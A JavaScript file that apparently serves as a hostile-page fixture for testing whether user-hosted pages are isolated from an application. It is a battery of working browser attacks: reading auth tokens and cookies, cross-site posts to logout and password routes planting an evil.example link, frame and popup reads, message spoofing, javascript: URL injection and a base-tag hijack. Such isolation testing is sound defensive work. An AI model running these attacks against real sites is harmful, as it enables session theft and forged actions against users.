// oxlint-disable no-alert, typescript/no-deprecated, unicorn/prefer-add-event-listener, typescript/no-unsafe-argument, typescript/no-unsafe-assignment, typescript/no-unsafe-call, typescript/no-unsafe-member-access
// oxlint-disable typescript/no-unsafe-return, no-undef -- custom JavaScript of a hostile page; runs as is
(() => {
  // the application is on another host, so every attack names it
  const app = new URL("/", document.baseURI).origin.replace("//pages.", "//");
  const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const within = (promise) => Promise.race([promise, wait(1500)]);
  // a slow machine needs seconds to open a screen; a document that never loads must not end the attacks
  const loaded = (target) =>
    Promise.race([new Promise((resolve) => target.addEventListener("load", resolve)), wait(10_000)]).then(() =>
      wait(300),
    );
  const frame = async (set) => {
    const element = document.createElement("iframe");
    set(element);
    const isLoaded = loaded(element);
    document.body.append(element);
    await isLoaded;
    try {
      const { contentWindow, contentDocument } = element;
      // throws unless the frame has the same origin
      return `readable ${contentWindow.localStorage.auth_token ?? ""}${contentDocument.body.innerText}`;
    } finally {
      // its open connections would keep later attacks waiting
      element.remove();
    }
  };
  const text = async (path, options) => (await fetch(app + path, options)).text();
  const script = `postMessage("worker " + (self.indexedDB ? "ran" : "")); fetch("${app}/v1/widget/link", {credentials: "include"}).then((r) => r.text()).then(postMessage, () => {})`;
  const heard = (target, only) =>
    within(new Promise((resolve) => (target.onmessage = ({ data }) => (only(data) ? resolve(data) : undefined))));
  const isLoading = (opened) => {
    try {
      return opened && (opened.location.href === "about:blank" || opened.document.readyState !== "complete");
    } catch {
      return false;
    }
  };
  const popup = async (path, read) => {
    const opened = window.open(path.startsWith("/") ? app + path : path);
    // the windows of other origins report no load
    for (let waited = 0; waited < 5_000 && isLoading(opened); waited += 100) await wait(100);
    await wait(700);
    try {
      return await read(opened);
    } finally {
      opened?.close();
    }
  };
  const form = (action, fields) => {
    const element = document.createElement("form");
    Object.assign(element, { action: app + action, method: "post", enctype: "text/plain" });
    const target = document.createElement("iframe");
    element.target = target.name = `target${Math.random()}`;
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      Object.assign(input, { name, value, type: "hidden" });
      element.append(input);
    }
    document.body.append(target, element);
    element.submit();
  };
  const steal = '{"name":"stolen","slug":"web","link":"https://evil.example/","x":"';

  // each returns what it got, or throws
  const attacks = {
    localStorage: () => localStorage.getItem("auth_token") ?? "readable",
    sessionStorage: () => `readable ${sessionStorage.length}`,
    cookies: () => document.cookie,
    "writing cookies": () => ((document.cookie = "own=forged; path=/"), document.cookie),
    "the cookie store": async () => JSON.stringify(await cookieStore.getAll()),
    indexedDB: () =>
      within(
        new Promise((resolve, reject) =>
          Object.assign(indexedDB.open("x"), { onsuccess: () => resolve("opened"), onerror: reject }),
        ),
      ),
    caches: async () => `opened ${typeof (await caches.open("x"))}`,
    "the origin private file system": async () => `opened ${typeof (await navigator.storage.getDirectory())}`,
    "a service worker": async () => `registered ${(await navigator.serviceWorker.register("/sw.js")).scope}`,
    "fetching calls": () => text("/v1/widget/link", { credentials: "include" }),
    "fetching as JSON": () =>
      text("/v1/widget/link", {
        method: "POST",
        credentials: "include",
        headers: { "content-type": "application/json" },
        body: `${steal}"}`,
      }),
    "fetching with a guess of a token": () =>
      text("/v1/widget/link", {
        headers: { authorization: ["Bearer hlk", "s", "guess"].join("_") },
        credentials: "include",
      }),
    "fetching screens": () => text("/dashboard", { credentials: "include" }),
    "fetching a third party's page": () => text("/login", { credentials: "include" }),
    XMLHttpRequest: () =>
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.open("GET", `${app}/v1/widget/link`);
        Object.assign(request, { withCredentials: true, onload: () => resolve(request.responseText), onerror: reject });
        request.send();
      }),
    "simple posts": async () => {
      const body = `${steal}"}`;
      for (const path of ["/v1/widget/link", "/users/logout", "/v1/appearance", "/v1/auth/change-password"])
        await fetch(app + path, { method: "POST", mode: "no-cors", credentials: "include", body }).catch(() => {});
    },
    beacons: () => {
      for (const path of ["/v1/widget/link", "/users/logout", "/v1/appearance", "/v1/auth/change-password"])
        navigator.sendBeacon(app + path, `${steal}"}`);
    },
    forms: async () => {
      for (const path of ["/v1/widget/link", "/users/logout", "/v1/appearance", "/v1/auth/change-password"])
        form(path, { [steal]: '"}' });
      await wait(300);
    },
    "the opener": () => opener && (opener.localStorage.auth_token ?? opener.document.body.innerText),
    "the parent window": () => parent !== window && (parent.localStorage.auth_token ?? parent.document.body.innerText),
    "the top window": () => top !== window && (top.localStorage.auth_token ?? top.document.body.innerText),
    "navigating the top window": async () => {
      if (top === window) return;
      top.location = "https://evil.example/";
      await wait(300);
    },
    "framing the dashboard": () => frame((each) => (each.src = `${app}/dashboard`)),
    "framing a message": () => frame((each) => (each.src = `${app}/unclaimed-name`)),
    "framing a script of ours": () => frame((each) => (each.src = `${app}/openapi.json`)),
    "an empty frame": () => frame((each) => (each.src = "about:blank")).then((got) => got && `empty ${got}`),
    "a frame that allows itself everything": () =>
      frame((each) => {
        each.setAttribute("sandbox", "allow-scripts allow-same-origin");
        each.src = `${app}/`;
      }),
    "a srcdoc frame": () =>
      frame((each) => {
        each.srcdoc = "<script>parent.postMessage(localStorage.auth_token, '*')</script>";
        each.setAttribute("sandbox", "allow-scripts allow-same-origin");
      }),
    "a blob as a frame": () =>
      frame((each) => (each.src = URL.createObjectURL(new Blob(["<p>x</p>"], { type: "text/html" })))),
    "opening the dashboard": () => popup("/dashboard", (opened) => opened.localStorage.auth_token),
    "reading the dashboard": () => popup("/dashboard", (opened) => opened.document.body.innerText),
    "opening nothing": () => popup("about:blank", (opened) => opened.localStorage.auth_token ?? "readable"),
    "a script in an address": () =>
      popup("/login", async (opened) => {
        opened.location = "javascript:void(opener.loot = `readable ${localStorage.auth_token}`)";
        // such an address runs in a later task
        await wait(300);
        return window.loot;
      }),
    "messages to the dashboard": () =>
      popup("/dashboard", (opened) => {
        opened.postMessage({ kind: "halka-preview-ready" }, "*");
        opened.postMessage({ type: "token?" }, "*");
      }).then(() => heard(window, (data) => typeof data === "string" && data.startsWith("hlk"))),
    "messages to every window": async () => {
      for (const kind of ["halka-preview", "halka-preview-ready", "halka-preview-height", "token"])
        for (const target of new Set([parent, top, opener]))
          if (target && target !== window) target.postMessage({ kind, html: "<h1>taken</h1>", height: 1e9 }, "*");
    },
    "a worker from a blob": () =>
      heard(new Worker(URL.createObjectURL(new Blob([script]))), (data) => !String(data).startsWith("worker")),
    "a worker from us": () => heard(new Worker("/sw.js"), () => true),
    "a shared worker": () => heard(new SharedWorker("/sw.js").port, () => true),
    "channels of the app": () => heard(new BroadcastChannel("app"), () => true),
    "waiting for locks": async () => JSON.stringify((await navigator.locks.query()).held),
    "the address of sign-in": () => {
      history.replaceState(null, "", `${app}/login`);
      return location.href;
    },
    "document.domain": () => ((document.domain = location.hostname), document.domain === location.hostname && "set"),
    "modules of the app": async () =>
      Object.keys(await import(new URL("/assets/none.js", document.baseURI).href)).length > 0 &&
      localStorage.getItem("auth_token"),
    "a web socket": () =>
      within(
        new Promise((resolve, reject) =>
          Object.assign(new WebSocket(`${app.replace("http", "ws")}/v1/changes`), { onopen: resolve, onerror: reject }),
        ),
      ),
    "live changes": () => heard(new EventSource(`${app}/v1/changes`, { withCredentials: true }), () => true),
    passwords: async () => (await within(navigator.credentials.get({ password: true })))?.id,
    geolocation: () =>
      within(new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))),
    "asking for the camera": async () => (await within(navigator.mediaDevices.getUserMedia({ video: true })))?.id,
    "asking to notify": async () => {
      const state = await within(Notification.requestPermission());
      return state === "granted" && state;
    },
    "the clipboard": () => within(navigator.clipboard.readText()),
    dialogs: () => confirm("Sign in again?") && "confirmed",
    printing: () => print(),
    "a download": () => {
      const link = document.createElement("a");
      Object.assign(link, { href: "data:text/plain,x", download: "invoice.exe" });
      link.click();
    },
    "another base": () => {
      const base = document.createElement("base");
      base.href = "https://evil.example/";
      document.head.prepend(base);
      const link = document.createElement("a");
      link.setAttribute("href", "/x");
      const got = link.href.includes("evil") && link.href;
      base.remove();
      return got;
    },
    "secrets in the document": () => {
      const found = /hlk_[a-z]_\w+|\w+@example\.com/.exec(document.documentElement.outerHTML);
      return found?.[0];
    },
  };

  const run = async () => {
    const got = {};
    for (const [name, attack] of Object.entries(attacks)) {
      try {
        const loot = await Promise.race([attack(), wait(20_000)]);
        if (loot) got[name] = String(loot).slice(0, 200);
      } catch {}
    }
    document.documentElement.dataset.attacks = String(Object.keys(attacks).length);
    document.documentElement.dataset.got = JSON.stringify(got);
  };
  void run();
})();
